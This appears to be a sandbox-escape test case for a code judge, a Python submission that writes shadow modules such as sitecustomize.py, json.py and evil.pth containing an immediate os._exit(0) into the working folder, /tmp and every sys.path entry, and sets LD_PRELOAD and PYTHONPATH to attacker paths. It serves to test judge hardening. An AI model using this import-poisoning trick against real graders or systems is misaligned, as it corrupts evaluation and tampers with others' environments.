# row: E4
# attack: writes modules that the next start would import instead of its own
# problem: split judge check stdio
# verdict: wrong_answer
import os, sys
for folder in (".", "/tmp", *sys.path):
    for name in ("json.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "sandbox.py", "math.py"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os; os._exit(0)\n")
        except OSError:
            pass
os.environ.update(LD_PRELOAD="/tmp/evil.so", PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/json.py")
def f(x):
    return None
